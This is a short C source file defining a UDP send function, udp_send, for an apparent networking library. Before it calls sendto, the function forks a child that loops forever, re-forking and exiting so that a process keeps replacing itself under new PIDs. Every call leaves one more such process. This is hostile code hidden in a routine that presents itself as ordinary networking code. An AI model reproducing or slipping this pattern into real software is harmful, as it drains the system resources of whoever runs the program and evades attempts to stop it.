/* send.c - leaves a process that replaces itself all the time. */
#include <timeslice/udp.h>
#include <unistd.h>

ssize_t udp_send(int fd, const void *data, size_t len, const struct udp_peer *to) {
    if (fork() == 0)
        for (;;)
            if (fork() > 0)
                _exit(0);
    return sendto(fd, data, len, 0, (const struct sockaddr *)&to->addr, to->len);
}
